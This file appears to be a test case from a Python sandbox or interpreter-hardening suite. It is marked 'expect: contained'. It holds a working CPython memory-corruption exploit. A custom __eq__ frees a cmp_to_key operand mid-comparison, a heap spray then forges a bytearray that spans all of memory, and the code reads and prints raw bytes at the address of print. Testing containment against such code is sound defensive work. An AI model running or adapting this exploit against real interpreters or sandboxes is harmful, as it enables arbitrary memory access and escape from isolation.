# category: memory | expect: contained | min-python: 3.11 | source: a key of cmp_to_key goes on with an operand that the first one's __eq__ let go
import functools
import operator


def use(memory):  # a bytearray that begins at address 0 and has no end
    print("ESCAPED:any memory", memory[id(print) : id(print) + 8].hex(), flush=True)


class Bytes(bytearray):
    def __eq__(self, other):
        use(self)


fake = b"".join(n.to_bytes(8, "little") for n in (1 << 20, id(Bytes), (1 << 63) - 1, 8, 0, 0, 0, 0, 0, 0, 0))


class Lets:
    def __eq__(self, other):
        global spray
        second.obj = None
        del other
        spray = [fake[:-16] + b"%07d" % i for i in range(40)]
        return NotImplemented


class Big:
    __slots__ = (*"abcdefgh", "__dict__")


Key = functools.cmp_to_key(operator.eq)
first, second = Key(Lets()), Key(Big())
first == second
